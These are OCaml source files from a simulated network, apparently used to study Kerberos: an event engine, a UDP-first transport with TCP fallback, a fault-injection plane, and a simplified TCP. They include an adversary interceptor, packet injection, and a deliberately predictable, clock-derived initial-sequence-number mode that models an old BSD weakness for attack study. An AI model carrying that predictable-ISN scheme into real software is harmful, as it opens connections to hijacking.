       ("net.dropped." ^ drop_reason_slug why));
  Telemetry.Collector.span_finish t.tel ~outcome:("dropped:" ^ why) span

let deliver ?(extra = 0.0) t span pkt =
  Engine.schedule_after t.eng (t.latency +. extra) (fun () ->
      match Hashtbl.find_opt t.ports (pkt.Packet.dst, pkt.Packet.dport) with
      | Some fn ->
          record t (Delivered (now t, pkt));
          Telemetry.Metrics.incr (c_delivered t);
          Telemetry.Collector.with_context t.tel span (fun () -> fn pkt);
          Telemetry.Collector.span_finish t.tel ~outcome:"ok" span
      | None -> drop_packet t span pkt "no listener")

(* The fault plane sits between the adversary and the wire: a packet the
   interceptor lets through (or substitutes) still has to survive the
   network itself. With no plane attached this is the old direct path. *)
let faulted_deliver t span pkt =
  match t.faults with
  | None -> deliver t span pkt
  | Some f -> (
      match Faults.plan f ~now:(now t) pkt with
      | Faults.Pass -> deliver t span pkt
      | Faults.Drop reason -> drop_packet t span pkt ("fault:" ^ reason)
      | Faults.Deliveries deliveries ->
          List.iteri
            (fun i (extra, payload) ->
              let p = { pkt with Packet.payload } in
              if i = 0 then deliver ~extra t span p
              else
                (* An injected duplicate is its own wire event: fresh span,
                   same parent exchange as the original. *)
                let sp =
                  Telemetry.Collector.span_begin t.tel ~component:"net"
                    ?parent:span.Telemetry.Span.parent
                    ~attrs:(("fault", "duplicate") :: packet_attrs p)
                    "net.packet"
                in
                deliver ~extra t sp p)
            deliveries)

let transmit t pkt =
  record t (Sent (now t, pkt));
  Telemetry.Metrics.incr (c_sent t);
  let span = begin_packet_span t pkt in
  List.iter (fun tap -> tap pkt) t.taps;
  match t.interceptor with
  | None -> faulted_deliver t span pkt
  | Some f -> (
      match f pkt with
      | Deliver -> faulted_deliver t span pkt
      | Drop -> drop_packet t span pkt "intercepted"
      | Replace pkts ->
          drop_packet t span pkt "replaced in flight";
          (* Replacements nest where the original would have: an operator
             tracing the exchange sees the substitution inside it. *)
          List.iter
            (fun p ->
              let sp =
                Telemetry.Collector.span_begin t.tel ~component:"net"
                  ?parent:span.Telemetry.Span.parent
                  ~attrs:(("injected", "replace") :: packet_attrs p)
                  "net.packet"
              in
              faulted_deliver t sp p)
            pkts)

let send t ?src ~sport ~dst ~dport host payload =
  let src = match src with None -> Host.primary_ip host | Some s -> s in
  if not (List.exists (Addr.equal src) host.Host.ips) then
    invalid_arg "Net.send: source address not owned by sending host";
  t.next_uid <- t.next_uid + 1;
  transmit t { Packet.src; sport; dst; dport; payload; uid = t.next_uid }

let inject t pkt =
  t.next_uid <- t.next_uid + 1;
  let pkt = { pkt with Packet.uid = t.next_uid } in
  record t (Sent (now t, pkt));
  Telemetry.Metrics.incr (c_sent t);
  List.iter (fun tap -> tap pkt) t.taps;
  let span =
    Telemetry.Collector.span_begin t.tel ~component:"net"
      ~attrs:(("injected", "true") :: packet_attrs pkt)
      "net.packet"
  in
  deliver t span pkt

let add_tap t fn = t.taps <- t.taps @ [ fn ]
let set_interceptor t fn = t.interceptor <- Some fn
let clear_interceptor t = t.interceptor <- None

let attach_faults t f =
  t.faults <- Some f;
  Faults.set_on_fire f (fun kind ->
      Telemetry.Metrics.incr
        (Telemetry.Metrics.counter
           (Telemetry.Collector.metrics t.tel)
           ("fault.injected." ^ Faults.kind_name kind)))

let detach_faults t = t.faults <- None
let faults t = t.faults

let pp_event ppf = function
  | Sent (ts, p) -> Format.fprintf ppf "[%8.4f] send    %a" ts Packet.pp p
  | Delivered (ts, p) -> Format.fprintf ppf "[%8.4f] deliver %a" ts Packet.pp p
  | Dropped (ts, p, why) -> Format.fprintf ppf "[%8.4f] drop    %a (%s)" ts Packet.pp p why
  | Note (ts, msg) -> Format.fprintf ppf "[%8.4f] note    %s" ts msg
