type event = { time : float; seq : int; fn : unit -> unit }

type t = {
  heap : event Heap.t;
  mutable clock : float;
  mutable next_seq : int;
  mutable executed : int;
  mutable telemetry : Telemetry.Collector.t list;
}

let cmp a b =
  match Float.compare a.time b.time with 0 -> Int.compare a.seq b.seq | c -> c

let create () =
  { heap = Heap.create ~cmp; clock = 0.0; next_seq = 0; executed = 0; telemetry = [] }

let now t = t.clock
let executed t = t.executed

let attach_telemetry t c =
  if not (List.memq c t.telemetry) then t.telemetry <- c :: t.telemetry

let attached_telemetry t = List.rev t.telemetry

let schedule t ~at fn =
  if at < t.clock then invalid_arg "Engine.schedule: event in the past";
  Heap.push t.heap { time = at; seq = t.next_seq; fn };
  t.next_seq <- t.next_seq + 1

let schedule_after t delay fn = schedule t ~at:(t.clock +. delay) fn

(* One call for a burst of events (the loadgen ramp): sequence numbers are
   assigned in list order, so the batch fires exactly as the same sequence
   of [schedule] calls would — [Heap.push_many] only changes internal
   layout, never pop order. *)
let schedule_batch t evs =
  let events =
    List.map
      (fun (at, fn) ->
        if at < t.clock then invalid_arg "Engine.schedule_batch: event in the past";
        let e = { time = at; seq = t.next_seq; fn } in
        t.next_seq <- t.next_seq + 1;
        e)
      evs
  in
  Heap.push_many t.heap events

let step t =
  match Heap.pop t.heap with
  | None -> false
  | Some ev ->
      t.clock <- ev.time;
      t.executed <- t.executed + 1;
      ev.fn ();
      true

(* Once the queue is empty no future event can close a span, so anything
   still open has leaked. Non-strict runs close them as "abandoned" (with
   a Warn trace event — never silently); strict runs raise. *)
let settle_spans ~strict t =
  List.iter
    (fun c ->
      if strict && Telemetry.Collector.open_span_count c > 0 then begin
        let names =
          List.map
            (fun (s : Telemetry.Span.t) -> s.Telemetry.Span.name)
            (Telemetry.Collector.open_spans c)
        in
        (* Leave the trace honest even when raising. *)
        ignore (Telemetry.Collector.abandon_open_spans c ~time:t.clock ());
        failwith
          ("Engine.run: spans left open after the event queue drained: "
          ^ String.concat ", " names)
      end
      else ignore (Telemetry.Collector.abandon_open_spans c ~time:t.clock ()))
    t.telemetry

let run ?(strict_spans = false) t =
  while step t do () done;
  settle_spans ~strict:strict_spans t

let run_until t limit =
  let continue = ref true in
  while !continue do
    match Heap.peek t.heap with
    | Some ev when ev.time <= limit -> ignore (step t)
    | _ -> continue := false
  done;
  if t.clock < limit then t.clock <- limit;
  (* Events past [limit] may still legitimately close spans, so only a
     fully drained queue settles them. *)
  if Heap.size t.heap = 0 then settle_spans ~strict:false t

let settle t = settle_spans ~strict:false t

let pending t = Heap.size t.heap
