(** UDP-first request/reply transport with transparent fallback to framed
    {!Tcpish} — the shape real Kerberos clients implement: try the
    datagram; if the server refuses because its response exceeds the path
    MTU (KRB_ERR_RESPONSE_TOO_BIG in the Kerberos planes), or replies
    keep arriving truncated, redo the exchange over a stream with 4-byte
    length-prefixed framing.

    Fallback decisions are counted in the network's telemetry registry:
    [transport.fallback.response_too_big], [transport.fallback.truncation],
    [transport.fallback.request_too_big], plus [transport.truncated]
    (garbled datagram replies observed), [transport.udp.calls/replies],
    [transport.tcp.calls/replies], and server-side
    [transport.responses_too_big]. Every call is one ["transport.call"]
    span with outcome [ok]/[timeout]/[reset]. *)

val tcp_port : int -> int
(** The simulator has one port namespace; a service's stream endpoint
    lives at this fixed offset (+20000) from its datagram port. *)

(** How a client's decoder judged a datagram reply. *)
type classification =
  | Accept  (** a well-formed reply — hand it to the caller *)
  | Response_too_big  (** the server's explicit refusal: redo over TCP *)
  | Garbled  (** undecodable — possibly a truncated tail; retry, then TCP *)

type peer = {
  p_addr : Addr.t;
  p_port : int;
  p_local : Addr.t;  (** the server address the request arrived at *)
  p_via : [ `Udp | `Tcp ];  (** which endpoint the message arrived on *)
}

type server

val serve :
  Net.t ->
  Host.t ->
  port:int ->
  ?too_big:(mtu:int -> bytes) ->
  (peer:peer -> bytes -> reply:(bytes -> unit) -> unit) ->
  server
(** Install the same message handler on both endpoints: datagrams on
    [port], framed stream messages on [tcp_port port]. A datagram reply
    that would exceed the return-path MTU is replaced by [too_big ~mtu]
    (when given) — the refusal must itself fit the MTU. Stream replies
    are never size-limited. *)

val shutdown : server -> unit
(** Remove both listeners (e.g. on crash). In-flight stream connections
    lose their endpoint and die by retransmission exhaustion on the
    client side, exactly like a crashed real server. *)

val call :
  Net.t ->
  Host.t ->
  ?src:Addr.t ->
  ?timeout:float ->
  ?retries:int ->
  ?backoff:float ->
  ?max_timeout:float ->
  ?jitter:float ->
  ?tcp_timeout:float ->
  ?deadline:float ->
  ?classify:(bytes -> classification) ->
  dst:Addr.t ->
  dport:int ->
  bytes ->
  on_reply:(bytes -> unit) ->
  on_timeout:(unit -> unit) ->
  unit
(** One request/reply exchange. The datagram leg rides {!Rpc.call} with
    the given retry envelope; each reply is judged by [classify]
    (default: accept everything). [Response_too_big] switches to the
    stream leg immediately; [Garbled] retries the datagram once more and
    switches after a second garble. If the request itself exceeds the
    sender's path MTU the datagram leg is skipped entirely
    ([transport.fallback.request_too_big]). The stream leg opens a
    connection to [tcp_port dport], sends the request as one framed
    message and yields the first framed reply; a reset or [tcp_timeout]
    expiry reports [on_timeout].

    [deadline] is the caller's total patience in seconds from the start
    of the call. The stream fallback's timer is clamped to whatever the
    datagram leg left of it (so the fallback can no longer overshoot a
    deadline the datagram leg alone would have honored), and a fallback
    entered with the deadline already spent reports [on_timeout]
    immediately ([transport.deadline_exhausted]). Exactly one of
    [on_reply]/[on_timeout] fires. *)
