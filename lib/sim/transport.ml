(* UDP-first transport with fallback to framed Tcpish — the cerberus
   shape: try the datagram, and when the response cannot fit (or keeps
   arriving truncated) redo the exchange over a stream. The simulator has
   a single port namespace, so a service's stream endpoint lives at a
   fixed offset from its datagram port. *)

let tcp_port_offset = 20000
let tcp_port p = p + tcp_port_offset

type classification = Accept | Response_too_big | Garbled

let bump net name =
  Telemetry.Metrics.incr
    (Telemetry.Metrics.counter (Telemetry.Collector.metrics (Net.telemetry net)) name)

type peer = {
  p_addr : Addr.t;
  p_port : int;
  p_local : Addr.t;
  p_via : [ `Udp | `Tcp ];
}

type server = {
  s_net : Net.t;
  s_host : Host.t;
  s_port : int;
  mutable s_live : bool;
}

let serve net host ~port ?too_big handler =
  (* Datagram endpoint: replies that would be truncated on the way back
     are replaced by the service's refusal (KRB_ERR_RESPONSE_TOO_BIG in
     the Kerberos planes) so the client knows to come back over TCP —
     a truncated refusal still parses, because refusals are tiny. *)
  Net.listen net host ~port (fun pkt ->
      let peer =
        { p_addr = pkt.Packet.src; p_port = pkt.Packet.sport;
          p_local = pkt.Packet.dst; p_via = `Udp }
      in
      let reply resp =
        let mtu = Net.path_mtu net ~src:pkt.Packet.dst ~dst:pkt.Packet.src in
        let resp =
          match (mtu, too_big) with
          | Some m, Some refusal when Bytes.length resp > m ->
              bump net "transport.responses_too_big";
              refusal ~mtu:m
          | _ -> resp
        in
        Net.send net ~src:pkt.Packet.dst ~sport:port ~dst:pkt.Packet.src
          ~dport:pkt.Packet.sport host resp
      in
      handler ~peer pkt.Packet.payload ~reply);
  (* Stream endpoint: same handler, message-framed, no size limit. *)
  Tcpish.listen net host ~port:(tcp_port port)
    ~on_accept:(fun conn ->
      let addr, pport = Tcpish.peer conn in
      let peer =
        { p_addr = addr; p_port = pport; p_local = fst (Tcpish.local conn);
          p_via = `Tcp }
      in
      Tcpish.on_message conn (fun msg ->
          handler ~peer msg ~reply:(fun resp -> Tcpish.send_message conn resp)))
    ();
  { s_net = net; s_host = host; s_port = port; s_live = true }

let shutdown s =
  if s.s_live then begin
    s.s_live <- false;
    Net.unlisten s.s_net s.s_host ~port:s.s_port;
    Net.unlisten s.s_net s.s_host ~port:(tcp_port s.s_port)
  end

let call net host ?src ?(timeout = 1.0) ?(retries = 0) ?(backoff = 2.0)
    ?(max_timeout = 8.0) ?(jitter = 0.1) ?(tcp_timeout = 2.0) ?deadline
    ?(classify = fun _ -> Accept) ~dst ~dport payload ~on_reply ~on_timeout =
  let finished = ref false in
  let finish k = if not !finished then begin finished := true; k () end in
  let span =
    Telemetry.Collector.span_begin (Net.telemetry net) ~component:"transport"
      "transport.call"
  in
  let settle outcome k =
    Telemetry.Collector.span_finish (Net.telemetry net) ~outcome span;
    k ()
  in
  (* The caller's overall patience, counted from the moment the call
     starts. The UDP leg is already bounded by timeout x retries; the
     stream fallback must not overshoot what is left of the budget — a
     fallback entered with 200 ms remaining gets a 200 ms connection
     budget, not the full [tcp_timeout]. *)
  let started = Engine.now (Net.engine net) in
  let remaining () =
    match deadline with
    | None -> infinity
    | Some d -> started +. d -. Engine.now (Net.engine net)
  in
  (* The stream leg: connect, send the request as one framed message,
     take the first framed reply. A connection that resets or never
     completes within [tcp_timeout] (clamped to the caller's remaining
     deadline) counts as a timeout; an already-exhausted deadline fails
     the leg without touching the network. *)
  let tcp_leg ~why () =
    let budget = Float.min tcp_timeout (remaining ()) in
    if budget <= 0.0 then begin
      bump net "transport.deadline_exhausted";
      finish (fun () -> settle "timeout" on_timeout)
    end
    else begin
      bump net ("transport.fallback." ^ why);
      bump net "transport.tcp.calls";
      let conn_ref = ref None in
      let conn =
        Tcpish.connect net host ?src ~dst ~dport:(tcp_port dport)
          ~on_connected:(fun conn ->
            Tcpish.on_message conn (fun msg ->
                if not !finished then begin
                  bump net "transport.tcp.replies";
                  Tcpish.close conn;
                  finish (fun () -> settle "ok" (fun () -> on_reply msg))
                end);
            Tcpish.send_message conn payload)
          ()
      in
      conn_ref := Some conn;
      Tcpish.on_close conn (fun ~reset ->
          if reset then
            finish (fun () -> settle "reset" on_timeout));
      Engine.schedule_after (Net.engine net) budget (fun () ->
          if not !finished then begin
            (match !conn_ref with Some c -> Tcpish.abort c | None -> ());
            finish (fun () -> settle "timeout" on_timeout)
          end)
    end
  in
  let udp_leg () =
    bump net "transport.udp.calls";
    let garbled = ref 0 in
    let rec attempt () =
      Rpc.call net host ?src ~timeout ~retries ~backoff ~max_timeout ~jitter
        ~dst ~dport payload
        ~on_reply:(fun pkt ->
          match classify pkt.Packet.payload with
          | Accept ->
              bump net "transport.udp.replies";
              finish (fun () -> settle "ok" (fun () -> on_reply pkt.Packet.payload))
          | Response_too_big ->
              if not !finished then tcp_leg ~why:"response_too_big" ()
          | Garbled ->
              bump net "transport.truncated";
              incr garbled;
              if !finished then ()
              else if !garbled >= 2 then tcp_leg ~why:"truncation" ()
              else attempt ())
        ~on_timeout:(fun () -> finish (fun () -> settle "timeout" on_timeout))
    in
    attempt ()
  in
  (* The request itself may not fit the path MTU (TGS and AP requests
     carry whole tickets): the sender can see its own interface MTU, so
     it skips the doomed datagram and goes straight to the stream. *)
  let src_addr = match src with Some a -> a | None -> Host.primary_ip host in
  match Net.path_mtu net ~src:src_addr ~dst with
  | Some mtu when Bytes.length payload > mtu -> tcp_leg ~why:"request_too_big" ()
  | _ -> udp_leg ()
