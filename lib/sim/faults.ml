type kind =
  | Loss
  | Duplicate
  | Reorder
  | Corrupt
  | Jitter
  | Partition
  | Host_down
  | Clock_step

let kind_index = function
  | Loss -> 0
  | Duplicate -> 1
  | Reorder -> 2
  | Corrupt -> 3
  | Jitter -> 4
  | Partition -> 5
  | Host_down -> 6
  | Clock_step -> 7

let kind_name = function
  | Loss -> "loss"
  | Duplicate -> "duplicate"
  | Reorder -> "reorder"
  | Corrupt -> "corrupt"
  | Jitter -> "jitter"
  | Partition -> "partition"
  | Host_down -> "host_down"
  | Clock_step -> "clock_step"

let all_kinds =
  [ Loss; Duplicate; Reorder; Corrupt; Jitter; Partition; Host_down; Clock_step ]

type window = { w_from : float; w_until : float }  (* [from, until) *)

type rule_action =
  | R_loss of float
  | R_duplicate of float * float  (* p, copy delay *)
  | R_reorder of float * float  (* p, hold *)
  | R_corrupt of float
  | R_jitter of float  (* max extra delay *)

type rule = {
  action : rule_action;
  r_src : Addr.t option;
  r_dst : Addr.t option;
  r_win : window;
}

type cut = {
  side_a : Addr.t list;
  side_b : Addr.t list;
  c_from : float;
  mutable c_until : float;
}

type outage = { o_addr : Addr.t; o_from : float; mutable o_until : float }

type t = {
  rng : Util.Rng.t;
  mutable rules : rule list;  (* insertion order — evaluation order *)
  mutable cuts : cut list;
  mutable outages : outage list;
  counts : int array;
  mutable on_fire : kind -> unit;
}

let create ?(seed = 0xFA0175L) () =
  { rng = Util.Rng.create seed; rules = []; cuts = []; outages = [];
    counts = Array.make 8 0; on_fire = ignore }

let set_on_fire t fn = t.on_fire <- fn
let count t kind = t.counts.(kind_index kind)

let counts t =
  List.filter_map
    (fun k ->
      let n = count t k in
      if n > 0 then Some (kind_name k, n) else None)
    all_kinds

let fire t kind =
  t.counts.(kind_index kind) <- t.counts.(kind_index kind) + 1;
  t.on_fire kind

let window ?(from = 0.0) ?(until = infinity) () = { w_from = from; w_until = until }
let in_window w now = now >= w.w_from && now < w.w_until

let add_rule t ?src ?dst ?from ?until action =
  t.rules <-
    t.rules @ [ { action; r_src = src; r_dst = dst; r_win = window ?from ?until () } ]

let add_loss t ?src ?dst ?from ?until ~p () =
  add_rule t ?src ?dst ?from ?until (R_loss p)

let add_duplicate t ?src ?dst ?from ?until ?(copy_delay = 0.002) ~p () =
  add_rule t ?src ?dst ?from ?until (R_duplicate (p, copy_delay))

let add_reorder t ?src ?dst ?from ?until ?(hold = 0.02) ~p () =
  add_rule t ?src ?dst ?from ?until (R_reorder (p, hold))

let add_corrupt t ?src ?dst ?from ?until ~p () =
  add_rule t ?src ?dst ?from ?until (R_corrupt p)

let add_jitter t ?src ?dst ?from ?until ~max_delay () =
  add_rule t ?src ?dst ?from ?until (R_jitter max_delay)

let partition t ~a ~b ?from ?until () =
  let w = window ?from ?until () in
  t.cuts <- t.cuts @ [ { side_a = a; side_b = b; c_from = w.w_from; c_until = w.w_until } ]

let crash_host t addr ?from ?until () =
  let w = window ?from ?until () in
  t.outages <- t.outages @ [ { o_addr = addr; o_from = w.w_from; o_until = w.w_until } ]

let heal t ~now =
  List.iter (fun c -> if c.c_until > now then c.c_until <- now) t.cuts;
  List.iter (fun o -> if o.o_until > now then o.o_until <- now) t.outages

let host_up t ~now addr =
  not
    (List.exists
       (fun o ->
         Addr.equal o.o_addr addr && now >= o.o_from && now < o.o_until)
       t.outages)

let cut_between c src dst =
  let mem a l = List.exists (Addr.equal a) l in
  (mem src c.side_a && mem dst c.side_b) || (mem src c.side_b && mem dst c.side_a)

let partitioned t ~now src dst =
  List.exists
    (fun c -> now >= c.c_from && now < c.c_until && cut_between c src dst)
    t.cuts

let clock_step t eng host ~at ~delta =
  Engine.schedule eng ~at (fun () ->
      host.Host.clock_offset <- host.Host.clock_offset +. delta;
      fire t Clock_step)

type verdict =
  | Pass
  | Drop of string
  | Deliveries of (float * bytes) list

let matches rule ~now (pkt : Packet.t) =
  in_window rule.r_win now
  && (match rule.r_src with None -> true | Some a -> Addr.equal a pkt.Packet.src)
  && (match rule.r_dst with None -> true | Some a -> Addr.equal a pkt.Packet.dst)

(* One random bit of the payload flips; everything downstream must treat
   the datagram as an integrity question, not an availability one. *)
let corrupt_payload t b =
  if Bytes.length b = 0 then b
  else begin
    let b = Bytes.copy b in
    let i = Util.Rng.int t.rng (Bytes.length b) in
    let bit = Util.Rng.int t.rng 8 in
    Bytes.set b i (Char.chr (Char.code (Bytes.get b i) lxor (1 lsl bit)));
    b
  end

let plan t ~now (pkt : Packet.t) =
  if
    not (host_up t ~now pkt.Packet.src) || not (host_up t ~now pkt.Packet.dst)
  then begin
    fire t Host_down;
    Drop "host_down"
  end
  else if partitioned t ~now pkt.Packet.src pkt.Packet.dst then begin
    fire t Partition;
    Drop "partition"
  end
  else begin
    (* Probabilistic rules, in insertion order. Every matching rule draws
       from the stream whether or not it fires, so a schedule's draws line
       up identically across runs. *)
    let payload = ref pkt.Packet.payload in
    let extra = ref 0.0 in
    let duplicate = ref None in
    let touched = ref false in
    let dropped = ref false in
    List.iter
      (fun rule ->
        if (not !dropped) && matches rule ~now pkt then
          match rule.action with
          | R_loss p ->
              if Util.Rng.float t.rng 1.0 < p then begin
                fire t Loss;
                dropped := true
              end
          | R_corrupt p ->
              if Util.Rng.float t.rng 1.0 < p then begin
                fire t Corrupt;
                payload := corrupt_payload t !payload;
                touched := true
              end
          | R_jitter max_delay ->
              let d = Util.Rng.float t.rng max_delay in
              if d > 0.0 then begin
                fire t Jitter;
                extra := !extra +. d;
                touched := true
              end
          | R_reorder (p, hold) ->
              if Util.Rng.float t.rng 1.0 < p then begin
                fire t Reorder;
                extra := !extra +. hold;
                touched := true
              end
          | R_duplicate (p, copy_delay) ->
              if Util.Rng.float t.rng 1.0 < p then begin
                fire t Duplicate;
                duplicate := Some copy_delay;
                touched := true
              end)
      t.rules;
    if !dropped then Drop "loss"
    else if not !touched then Pass
    else
      let first = (!extra, !payload) in
      match !duplicate with
      | None -> Deliveries [ first ]
      | Some copy_delay -> Deliveries [ first; (!extra +. copy_delay, !payload) ]
  end

let random_schedule t ~rng ~addrs ?(crashable = []) ~horizon () =
  (* Global background weather. *)
  add_loss t ~p:(Util.Rng.float rng 0.15) ();
  add_duplicate t ~p:(Util.Rng.float rng 0.15)
    ~copy_delay:(0.001 +. Util.Rng.float rng 0.01) ();
  add_reorder t ~p:(Util.Rng.float rng 0.1) ~hold:(0.01 +. Util.Rng.float rng 0.03) ();
  add_corrupt t ~p:(Util.Rng.float rng 0.05) ();
  add_jitter t ~max_delay:(Util.Rng.float rng 0.008) ();
  (* Designated victims either crash or get cut off, once each, and heal. *)
  List.iter
    (fun addr ->
      let from = Util.Rng.float rng (horizon /. 2.0) in
      let until = from +. 1.0 +. Util.Rng.float rng (horizon /. 4.0) in
      if Util.Rng.bool rng then crash_host t addr ~from ~until ()
      else
        partition t ~a:[ addr ]
          ~b:(List.filter (fun x -> not (Addr.equal x addr)) addrs)
          ~from ~until ())
    crashable;
  (* A couple of per-destination loss bursts. *)
  List.iter
    (fun addr ->
      if Util.Rng.bool rng then begin
        let from = Util.Rng.float rng horizon in
        add_loss t ~dst:addr ~from ~until:(from +. 2.0)
          ~p:(0.3 +. Util.Rng.float rng 0.4) ()
      end)
    addrs
