(** A deterministic, seeded fault-injection plane for the simulated network.

    The paper assumes "the network is under the complete control of an
    adversary" — but even a non-malicious network loses, duplicates,
    reorders and corrupts datagrams, partitions, and watches hosts crash.
    This module models exactly that layer: a schedule of faults a {!Net.t}
    consults for every packet it would otherwise deliver.

    Design rules:
    - {e Off by default.} A network with no plane attached takes a single
      [None] branch; behaviour and telemetry are byte-identical to a build
      without this module.
    - {e Deterministic.} All randomness comes from the plane's own
      splitmix64 stream, drawn in fixed rule order per packet. The same
      seed and schedule over the same packet sequence reproduce the same
      faults — and therefore a byte-identical trace dump.
    - {e Observable.} Every injected fault is counted here (see {!count})
      and, when the plane is attached to a network, mirrored into the
      telemetry registry as [fault.injected.<kind>] counters; drops carry
      a ["fault:<kind>"] reason on their [net.packet] span.

    Rule evaluation order per packet (fixed, documented so schedules are
    reproducible): host outages, partitions, loss, corruption, jitter,
    reordering hold-back, duplication. *)

type t

type kind =
  | Loss
  | Duplicate
  | Reorder
  | Corrupt
  | Jitter
  | Partition
  | Host_down
  | Clock_step

val kind_name : kind -> string
(** Lowercase slug, e.g. ["host_down"] — the suffix of the
    [fault.injected.<kind>] counter. *)

val all_kinds : kind list

val create : ?seed:int64 -> unit -> t
(** A plane with an empty schedule: every packet passes untouched. *)

(** {1 Building a schedule}

    All rules take an optional link filter ([?src]/[?dst] — omitted means
    "any") and an optional active window [\[from, until)] in engine time
    (omitted means "always"). Probabilities are per matching packet. *)

val add_loss :
  t -> ?src:Addr.t -> ?dst:Addr.t -> ?from:float -> ?until:float ->
  p:float -> unit -> unit

val add_duplicate :
  t -> ?src:Addr.t -> ?dst:Addr.t -> ?from:float -> ?until:float ->
  ?copy_delay:float -> p:float -> unit -> unit
(** The duplicate copy arrives [copy_delay] (default [0.002]) after the
    original — the retransmission ghost that "complicates server-side
    authenticator caching". *)

val add_reorder :
  t -> ?src:Addr.t -> ?dst:Addr.t -> ?from:float -> ?until:float ->
  ?hold:float -> p:float -> unit -> unit
(** A selected packet is held back an extra [hold] seconds (default
    [0.02]), letting later traffic overtake it. *)

val add_corrupt :
  t -> ?src:Addr.t -> ?dst:Addr.t -> ?from:float -> ?until:float ->
  p:float -> unit -> unit
(** Flips one random bit of the payload; the packet still arrives. *)

val add_jitter :
  t -> ?src:Addr.t -> ?dst:Addr.t -> ?from:float -> ?until:float ->
  max_delay:float -> unit -> unit
(** Every matching packet gains a uniform extra delay in [\[0, max_delay)]. *)

val partition :
  t -> a:Addr.t list -> b:Addr.t list -> ?from:float -> ?until:float ->
  unit -> unit
(** Cut the network between address sets [a] and [b] (both directions)
    for the window. Traffic within a side is unaffected. *)

val crash_host : t -> Addr.t -> ?from:float -> ?until:float -> unit -> unit
(** The host at this address is down for the window: nothing it sends
    leaves, nothing addressed to it arrives. (Listener and process state
    are the application's concern — see [Apserver.crash]/[restart].) *)

val heal : t -> now:float -> unit
(** End every partition and host outage whose window is still open at
    [now]. Probabilistic rules are unaffected. *)

val clock_step : t -> Engine.t -> Host.t -> at:float -> delta:float -> unit
(** Schedule a step of [delta] seconds onto the host's clock offset at
    engine time [at] — the suddenly-wrong clock that breaks timestamp
    authenticators. Counted as [Clock_step] when it fires. *)

val random_schedule :
  t -> rng:Util.Rng.t -> addrs:Addr.t list -> ?crashable:Addr.t list ->
  horizon:float -> unit -> unit
(** Derive a whole chaos schedule from [rng]: global loss / duplication /
    reordering / corruption / jitter rates, per-link loss bursts over
    [addrs], and for each address in [crashable] (default none) either a
    crash window or a partition cutting it off, placed inside
    [\[0, horizon)]. Deterministic in [rng]. *)

(** {1 The network-facing decision function} *)

type verdict =
  | Pass  (** untouched — the zero-cost common case *)
  | Drop of string  (** swallowed; the string is the reason slug *)
  | Deliveries of (float * bytes) list
      (** deliver these instead: (extra delay, payload) per copy. The
          first entry replaces the original packet; any further entries
          are injected duplicates. *)

val plan : t -> now:float -> Packet.t -> verdict
(** Decide the fate of one packet, drawing from the plane's RNG in fixed
    rule order and counting every fault fired. *)

val host_up : t -> now:float -> Addr.t -> bool

val set_on_fire : t -> (kind -> unit) -> unit
(** Hook invoked once per fault fired (used by [Net.attach_faults] to
    mirror counts into the telemetry registry). *)

val count : t -> kind -> int
(** Faults of this kind injected so far. *)

val counts : t -> (string * int) list
(** All kinds with nonzero counts, in {!all_kinds} order. *)
