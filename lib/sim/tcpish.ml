type isn_mode = Predictable | Random_isn

type segment = {
  syn : bool;
  ack : bool;
  fin : bool;
  rst : bool;
  seq : int;
  ackno : int;
  body : bytes;
}

let header_overhead = 13 (* flags u8 + seq u32 + ackno u32 + body length u32 *)

let encode_segment s =
  let w = Wire.Codec.Writer.create () in
  let flags =
    (if s.syn then 1 else 0) lor (if s.ack then 2 else 0)
    lor (if s.fin then 4 else 0)
    lor if s.rst then 8 else 0
  in
  Wire.Codec.Writer.u8 w flags;
  Wire.Codec.Writer.u32 w s.seq;
  Wire.Codec.Writer.u32 w s.ackno;
  Wire.Codec.Writer.lbytes w s.body;
  Wire.Codec.Writer.contents w

let decode_segment b =
  match
    let r = Wire.Codec.Reader.of_bytes b in
    let flags = Wire.Codec.Reader.u8 r in
    let seq = Wire.Codec.Reader.u32 r in
    let ackno = Wire.Codec.Reader.u32 r in
    let body = Wire.Codec.Reader.lbytes r in
    Wire.Codec.Reader.expect_end r;
    { syn = flags land 1 <> 0; ack = flags land 2 <> 0; fin = flags land 4 <> 0;
      rst = flags land 8 <> 0; seq; ackno; body }
  with
  | s -> Some s
  | exception Wire.Codec.Decode_error _ -> None

let predict_isn net = function
  | Predictable ->
      (* Old-BSD shape: a coarse, clock-derived counter. Anyone who knows
         the time knows the ISN. *)
      (64 * int_of_float (Net.now net)) land 0x7FFFFFFF
  | Random_isn -> Util.Rng.int (Net.rng net) 0x40000000

(* Sequence arithmetic mod 2^31. [seq_dist a b] is the forward distance
   from [a] to [b]; anything at or beyond half the space reads as
   "behind". *)
let seq_mask = 0x7FFFFFFF
let ( +% ) a b = (a + b) land seq_mask
let seq_dist a b = (b - a) land seq_mask

(* How far ahead of [rcv_nxt] a segment may start and still be buffered
   for reassembly rather than discarded as wild. *)
let recv_window = 1 lsl 16
let max_ooo_segments = 256
let max_frame_len = 1 lsl 20
let base_rto = 0.25
let max_rto = 4.0
let max_retries = 6

type conn = {
  net : Net.t;
  host : Host.t;
  local_addr : Addr.t;
  local_port : int;
  peer_addr : Addr.t;
  peer_port : int;
  rto_rng : Util.Rng.t;
  mutable snd_nxt : int;
  mutable snd_una : int;
  mutable rcv_nxt : int;
  mutable established : bool;
  mutable closed : bool;  (** FIN/RST sent or received: no further sends *)
  mutable detached : bool;  (** no longer reachable from the network *)
  mutable data_cb : bytes -> unit;
  mutable close_cb : reset:bool -> unit;
  mutable sent : int;
  mutable received : int;
  unacked : segment Queue.t;  (** in sequence order, head oldest *)
  ooo : (int, bytes) Hashtbl.t;  (** out-of-order bodies keyed by seq *)
  mutable dup_acks : int;
  mutable rto : float;
  mutable retries : int;
  mutable timer_armed : bool;
  mutable detach : unit -> unit;
  (* framing (on_message): 4-byte big-endian length prefix *)
  fbuf : Buffer.t;
  mutable msg_cb : (bytes -> unit) option;
}

let peer c = (c.peer_addr, c.peer_port)
let local c = (c.local_addr, c.local_port)
let bytes_received c = c.received
let bytes_sent c = c.sent
let established c = c.established

let bump c name =
  Telemetry.Metrics.incr
    (Telemetry.Metrics.counter (Telemetry.Collector.metrics (Net.telemetry c.net)) name)

let transmit c seg =
  Net.send c.net ~src:c.local_addr ~sport:c.local_port ~dst:c.peer_addr
    ~dport:c.peer_port c.host (encode_segment seg)

let seg_span seg =
  (if seg.syn then 1 else 0) + (if seg.fin then 1 else 0) + Bytes.length seg.body

(* Largest body a single segment can carry to the peer without the
   network truncating it. With no MTU on the path, a whole payload rides
   in one segment — the pre-MTU behaviour. *)
let max_seg_body c =
  match Net.path_mtu c.net ~src:c.local_addr ~dst:c.peer_addr with
